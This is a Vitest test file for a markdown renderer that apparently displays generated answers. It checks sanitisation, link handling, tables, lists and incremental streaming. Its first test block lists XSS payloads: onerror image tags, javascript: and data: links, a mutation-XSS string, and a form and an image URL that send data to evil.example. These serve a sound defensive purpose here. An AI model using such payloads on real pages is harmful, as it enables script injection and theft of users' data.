import { describe, expect, it } from "vitest";
import { Growing, toBlocks } from "../src/markdown";

const html = (text: string): string =>
  toBlocks(text)
    .map((block) => (block.kind === "code" ? `[${block.language}]${block.text}` : block.html))
    .join("");

describe("what an answer may not do", () => {
  it.each([
    `<img src=x onerror="alert(1)">`,
    `<script>alert(1)</script>`,
    `<iframe src="https://evil.example"></iframe>`,
    `<style>*{display:none}</style>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    `[x](javascript:alert(1))`,
    `[x](data:text/html,<script>alert(1)</script>)`,
    `[x](vbscript:x)`,
    `<javascript:alert(1)>`,
    `![x](https://evil.example/?q=secret)`,
    `![x](javascript:alert(1))`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">`,
    `- <img src=x onerror=alert(1)>`,
    `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
    "`<img src=x onerror=alert(1)>`",
    `<form action="https://evil.example"><input name=q></form>`,
    `[x]: javascript:alert(1)\n\n[x]`,
  ])("%s", (text) => {
    const page = document.createElement("div");
    page.innerHTML = html(text);
    expect(page.querySelector("img, script, iframe, style, svg, math, form, input, object, embed, link, meta")).toBeNull();
    for (const element of page.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|style|^src/);
        if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      }
    }
  });
});

describe("what it shows", () => {
  it("leads links out safely", () => {
    expect(html("[a](https://a.example)")).toBe(
      '<p><a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n',
    );
  });
  it("shows HTML as text", () => {
    expect(html("a <b>bold</b> move")).toContain("a &lt;b&gt;bold&lt;/b&gt; move");
  });
  it("names pictures and leaves them where they are", () => {
    expect(html("![a cat](https://a.example/cat.png)")).toContain('<a href="https://a.example/cat.png"');
  });
  it("treats a fence that is still open as code", () => {
    expect(toBlocks("So:\n\n```py\nprint(")).toMatchObject([{ kind: "html" }, { kind: "code", language: "py", text: "print(" }]);
  });
  it("keeps the alignment of tables", () => {
    const [block] = toBlocks("| a | b |\n|---|--:|\n| 1 | 2 |");
    expect(block).toMatchObject({ kind: "table" });
    expect(html("| a | b |\n|---|--:|\n| 1 | 2 |")).toContain('<td align="right">2</td>');
  });
  it("keeps the number with which a list begins", () => {
    expect(html("3. c\n4. d")).toContain('<ol start="3">');
  });
  it("resolves a link that is defined later", () => {
    expect(html("See [it].")).not.toContain("href");
    expect(html("See [it].\n\n[it]: https://a.example")).toContain('href="https://a.example"');
  });
});

describe("a text that grows", () => {
  const TEXTS = {
    prose: "# Head\n\nOne *two*\nthree.\n\nA head\n===\n\n***\n\nEnd",
    lists: "Do:\n\n1. a\n\n2. b\n\n   more\n3. c\n\nThen\n\n- x\n  - y\n\n- z\n\n12\n\nEnd.",
    code: "So:\n\n```py\nprint(1)\n\n\nprint(2)\n```\n\n    indented\n\n    more\n\n~~~\nopen\n\nstill",
    table: "See\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\n\n> quoted\nlazily\n\n> more\n\nEnd",
    html: "<div>\n<b>x</b>\n\ny\n</div>\n\nafter\r\n\r\nlast\r\n",
  };
  it.each(Object.entries(TEXTS))("has the blocks of the whole at each of its lines: %s", { timeout: 60_000 }, (_, text) => {
    for (const step of [2, 5]) {
      const growing = new Growing();
      for (let end = step; end < text.length + step; end += step) {
        const part = text.slice(0, end);
        const grown = growing.update(part);
        if (part.endsWith("\n") || end >= text.length) {
          // Asked anew, so that it is not what was just written.
          toBlocksAnew(part, grown);
        }
      }
    }
  });
  const toBlocksAnew = (part: string, grown: unknown) => {
    new Growing().update("");
    expect(grown).toEqual(toBlocks(part));
  };
  it("gives finished blocks back as they were", () => {
    const growing = new Growing();
    const [before] = growing.update("One.\n\nTwo\n\nTh");
    const [after] = growing.update("One.\n\nTwo\n\nThree");
    expect(after).toBe(before);
  });
  it("begins anew with another text", () => {
    const growing = new Growing();
    growing.update("One.\n\nTwo\n\nThree");
    expect(growing.update("Four")).toEqual(toBlocks("Four"));
  });
  it("is read as a whole at its end if links are defined", () => {
    const text = "See [it].\n\nThen\n\n[it]: https://a.example";
    new Growing().update(text);
    expect(html(text)).toContain('href="https://a.example"');
  });
});
